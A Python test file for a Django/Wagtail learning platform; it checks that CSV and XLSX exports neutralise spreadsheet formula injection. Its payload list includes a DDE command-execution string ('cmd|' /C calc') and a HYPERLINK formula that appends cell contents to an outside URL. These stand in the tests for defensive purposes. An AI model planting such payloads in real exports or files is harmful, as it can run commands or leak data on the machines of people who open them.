"""Tables that people open in a spreadsheet program: words stay words, whatever they begin with."""

import csv
from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO, StringIO

import pytest
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import Page

from lms.interop.spreadsheet_kit import NOT_FOR_XML, csv_parts, harmless, safe_csv, safe_xlsx
from lms.people.models import Role
from tests.factories import RoleFactory, UserFactory

FORMULAS = [
    "=1+1", "=HYPERLINK(\"https://example.org/\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1",
    "\n=1+1", "  =1+1", "＝1+1", "＋1", "－1", "＠A1", "\ufeff=1+1", "\x1f=1+1",
    "|cmd", "%0A=1",
]  # fmt: skip
RUNS = tuple("=+-@\t\r\n＝＋－＠")


def rows_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline="")))


def cells_of(content: bytes):
    return [list(row) for row in load_workbook(BytesIO(content)).active.iter_rows()]


@pytest.mark.parametrize("formula", FORMULAS)
def test_words_that_would_be_a_formula_become_words(formula):
    assert rows_of(safe_csv([[formula]])) == [["'" + NOT_FOR_XML.sub("", formula)]]
    (cell,) = cells_of(safe_xlsx([[formula]]))[0]
    assert cell.data_type == "s"
    assert cell.value.startswith("'")


def test_numbers_days_and_plain_words_stay_what_they_are():
    row = [
        5,
        -5,
        1.5,
        Decimal("-2.50"),
        True,
        None,
        date(2026, 11, 3),
        datetime(2026, 11, 3, 9, 30, tzinfo=UTC),
        "A - b",
        "5=5",
    ]

    assert rows_of(safe_csv([row])) == [
        ["5", "-5", "1.5", "-2.50", "yes", "", "2026-11-03", "2026-11-03T09:30:00+00:00", "A - b", "5=5"]
    ]
    cells = cells_of(safe_xlsx([row]))[0]
    assert [cell.value for cell in cells] == [
        5, -5, 1.5, -2.5, True, None, datetime(2026, 11, 3), datetime(2026, 11, 3, 9, 30), "A - b", "5=5",
    ]  # fmt: skip
    assert [cell.data_type for cell in cells[:4]] == ["n"] * 4


def test_a_sheet_takes_what_it_could_not_hold():
    (cell,) = cells_of(safe_xlsx([["a\0b\x1f\ud800" + "c" * 40_000]], title="a/b:c" * 20))[0]

    assert cell.value == "ab" + "c" * 32_765


unhurried = settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
words = st.text(max_size=60) | st.builds(
    lambda first, rest: first + rest, st.sampled_from(FORMULAS), st.text(max_size=20)
)


@unhurried
@given(st.lists(st.lists(words, min_size=1, max_size=4), min_size=1, max_size=4))
def test_no_cell_ever_begins_with_a_sign_that_runs(table):
    table = [[word.encode("utf-8", "replace").decode() for word in row] for row in table]

    read = rows_of(safe_csv(table))

    assert not [cell for row in read for cell in row if cell.startswith(RUNS)]
    assert [len(row) for row in read] == [len(row) for row in table]
    cells = [cell for row in cells_of(safe_xlsx(table)) for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert not [cell.value for cell in cells if str(cell.value or "").startswith(RUNS)]


@unhurried
@given(words)
def test_making_harmless_takes_nothing_away(word):
    assert harmless(word).removeprefix("'") == NOT_FOR_XML.sub("", word).removeprefix("'")


def test_the_packages_own_ways_do_write_formulas():
    """The control."""
    from openpyxl import Workbook

    written, workbook = BytesIO(), Workbook()
    workbook.active.append(["=1+1"])
    workbook.save(written)
    plain = StringIO()
    csv.writer(plain).writerow(["=1+1"])

    assert cells_of(written.getvalue())[0][0].data_type == "f"
    assert plain.getvalue() == "=1+1\r\n"


# ---------------------------------------------------------------- the CMS


@pytest.fixture
def browser(db, signed_in):
    """Of somebody who may open every report of the CMS, on a site where somebody typed formulas."""
    person = RoleFactory(
        kind=Role.Kind.ADMINISTRATOR, person=UserFactory(first_name="=1+1", last_name="@SUM(1)")
    ).person
    person.is_superuser = True
    person.save()
    page = Page.objects.filter(depth=2).first()
    page.title, page.locked, page.locked_by = '=HYPERLINK("https://example.org/")', True, person
    page.save_revision(user=person).publish()
    Redirect.objects.create(old_path="/=1+1", redirect_link="=1+1")
    return signed_in(person)


EXPORTS = [
    "wagtailredirects:index", "wagtailadmin_reports:locked_pages", "wagtailadmin_reports:aging_pages",
    "wagtailadmin_reports:site_history", "wagtailadmin_reports:workflow", "wagtailadmin_reports:workflow_tasks",
    "wagtailsearchpromotions:search_terms", "pairs_report",
]  # fmt: skip


def exported(browser, name: str, kind: str):
    answer = browser.get(reverse(name), {"export": kind})
    assert answer.status_code == 200 and answer.headers["Content-Disposition"].startswith("attachment"), name
    return b"".join(answer.streaming_content)


@pytest.mark.parametrize("name", EXPORTS)
def test_no_export_of_the_cms_has_a_formula(browser, name):
    rows = rows_of(exported(browser, name, "csv"))
    cells = [cell for row in cells_of(exported(browser, name, "xlsx")) for cell in row]

    assert rows and cells
    assert not [cell for row in rows for cell in row if cell.startswith(RUNS)]
    assert not [cell for cell in cells if cell.data_type == "f" or str(cell.value or "").startswith(RUNS)]


def test_what_was_typed_is_in_the_exports(browser):
    assert "'=1+1" in exported(browser, "wagtailredirects:index", "csv").decode()
    assert "'=HYPERLINK" in exported(browser, "wagtailadmin_reports:locked_pages", "csv").decode()


def test_the_cms_as_it_comes_writes_formulas(browser, monkeypatch):
    """The control."""
    monkeypatch.setattr("lms.uploads.cms_doors.harmless", lambda value: value)

    rows = rows_of(exported(browser, "wagtailadmin_reports:locked_pages", "csv"))

    assert [cell for row in rows for cell in row if cell.startswith("=HYPERLINK")]


def test_every_export_of_the_cms_is_tried():
    """A view that writes a spreadsheet by another way, or a new report, comes by here."""
    from django.urls import get_resolver
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    found = set()

    def walk(patterns, namespace=""):
        for entry in patterns:
            if hasattr(entry, "url_patterns"):
                walk(entry.url_patterns, f"{namespace}{entry.namespace}:" if entry.namespace else namespace)
            else:
                view = getattr(entry.callback, "view_class", None)
                if (
                    view
                    and issubclass(view, SpreadsheetExportMixin)
                    and view.list_export
                    and not entry.pattern.converters
                ):
                    found.add(namespace + str(entry.name))

    walk(get_resolver().url_patterns)

    assert {name for name in found if not name.endswith("_results")} == set(EXPORTS)


def test_a_table_in_parts_is_the_table_in_one():
    rows = [("Name", "Day"), ("=1+1", date(2026, 11, 22)), ("Amina", None)]

    parts = list(csv_parts([rows[:1], rows[1:2], [], rows[2:]]))

    assert b"".join(parts) == safe_csv(rows)
    assert [part.count(b"\xef\xbb\xbf") for part in parts] == [1, 0, 0, 0]
